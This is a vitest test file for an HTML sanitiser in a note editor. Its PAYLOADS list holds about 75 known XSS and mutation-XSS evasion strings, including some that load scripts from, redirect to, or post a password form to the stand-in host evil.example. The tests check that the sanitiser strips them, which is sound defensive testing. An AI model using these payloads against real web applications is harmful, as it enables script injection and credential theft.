import { describe, expect, test } from 'vitest'
import { isBlankNote, sanitizeNote } from './sanitize.ts'

/** Everything that a cleaned text may hold besides its words. */
const ALLOWED =
  /<\/?(?:p|strong|em|u|s|h[1-4]|ul|ol|li|blockquote|code|pre|a)>|<ol start="\d{1,6}">|<br \/>|<a href="(?:https?:\/\/|mailto:)[^"<>]+" target="_blank" rel="noopener noreferrer nofollow">/g

/** Attacks from the filter-evasion lists of OWASP and PortSwigger, and from the sanitisers' own advisories. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src=//evil.example></script>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x:x" onerror="alert(1)"/>',
  '<img """><script>alert(1)</script>">',
  '<img src=x onerror\n=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<xmp>&lt;img src=x onerror=alert(1)&gt;</xmp>',
  '<option><script>alert(1)</script></option>',
  '<select><template><style><!--</style><a rel="--&gt;&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<template><script>alert(1)</script></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<p id="root" class="visually-hidden" name="x">x</p>',
  '<body onload=alert(1)>x</body>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src onloadstart=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/api/users/logout/">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_top" rel="opener" ping="https://evil.example">x</a>',
  '<a href=\'https://ok.example/"onmouseover="alert(1)\'>x</a>',
  '<a href="https://ok.example/%22%3E%3Cscript%3E">x</a>',
  '<p title="--><img src=x onerror=alert(1)>">x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<p>a < b <img src=x onerror=alert(1)//',
  '<p/onclick=alert(1)>x',
  '<custom-element onclick=alert(1)>x</custom-element>',
]

describe('sanitizeNote removes everything but the allowed tags from', () => {
  test.each(PAYLOADS)('%s', (payload) => {
    for (const html of [payload, `<p>before</p>${payload}<p>after</p>`, `<ul><li>${payload}`]) {
      const cleaned = sanitizeNote(html)
      expect(cleaned.replace(ALLOWED, '')).not.toMatch(/[<>]/)
      expect(sanitizeNote(cleaned)).toBe(cleaned)
    }
  })
})

test('keeps the editor’s own output unchanged', () => {
  const text =
    '<h1>March</h1><h2>New</h2><p><strong>Bold</strong>, <em>slanted</em>, <u>under</u> and <s>struck</s><br />line</p>' +
    '<ul><li><p>One</p><ol><li><p>Two</p></li></ol></li></ul><blockquote><p>Said</p></blockquote>' +
    '<pre><code>a &lt; b &amp;&amp; c</code></pre><h3>3</h3><h4>4</h4>' +
    '<p>Grüße 👋 <a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">there</a> ' +
    '<a href="mailto:ines@example.com" target="_blank" rel="noopener noreferrer nofollow">mail</a></p>'
  expect(sanitizeNote(text)).toBe(text)
})

test('keeps the start of a numbered list only if it is a whole number', () => {
  const list = (start: string) => sanitizeNote(`<ol start="${start}"><li>One</li></ol>`)
  expect(list('3')).toBe('<ol start="3"><li>One</li></ol>')
  for (const start of ['-1', '3.5', 'x', '1e9', '" onclick="alert(1)'])
    expect(list(start)).toBe('<ol><li>One</li></ol>')
})

test('renames equivalent tags of other editors', () => {
  expect(sanitizeNote('<b>a</b><i>b</i><del>c</del><strike>d</strike><h6 class="x">e</h6>')).toBe(
    '<strong>a</strong><em>b</em><s>c</s><s>d</s><h4>e</h4>',
  )
})

test('keeps the words of a link without a valid address, and of a tag that is not allowed', () => {
  expect(sanitizeNote('<p>See <a href="javascript:x">here</a> and <span style="color:red">there</span></p>')).toBe(
    '<p>See here and there</p>',
  )
})

test('recognises a blank text', () => {
  for (const nothing of [
    '',
    '<p></p>',
    '<p> &nbsp; <br></p>',
    '<ul><li><p>\u200b</p></li></ul>',
    '<p>\u2060\u00ad</p>',
  ])
    expect(isBlankNote(sanitizeNote(nothing)), nothing).toBe(true)
  for (const something of ['<p>.</p>', '0', '<p>&lt;</p>'])
    expect(isBlankNote(sanitizeNote(something)), something).toBe(false)
})

test('sanitizes six deep or malformed texts in less than 10 s', () => {
  const deep = '<blockquote>'.repeat(16_000)
  const many = '<a href="https://a">'.repeat(10_000)
  const start = performance.now()
  const dead = '<a>x</a>'.repeat(25_000)
  for (const html of [deep, many, dead, '<'.repeat(200_000), '&'.repeat(200_000), '<p '.repeat(66_000)])
    expect(sanitizeNote(html).replace(ALLOWED, '')).not.toMatch(/[<>]/)
  expect(performance.now() - start).toBeLessThan(10_000)
})
